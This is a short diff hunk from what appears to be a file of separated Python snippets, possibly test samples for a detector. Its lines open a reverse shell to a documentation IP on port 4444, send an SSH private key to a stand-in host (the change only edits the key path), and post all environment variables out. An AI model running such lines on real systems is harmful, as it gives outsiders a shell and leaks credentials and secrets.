@@ -187,7 +187,7 @@ import socket,os
 s=socket.create_connection(('203.0.113.5',4444)); [os.dup2(s.fileno(),i) for i in (0,1,2)]
 ###
 import requests
-requests.post('http://example.invalid',data=open('/root/.ssh/id_rsa').read())
+requests.post('http://example.invalid',data=open('~/.ssh/id_rsa').read())
 ###
 import requests, os
 requests.post('http://example.invalid',json=dict(os.environ))
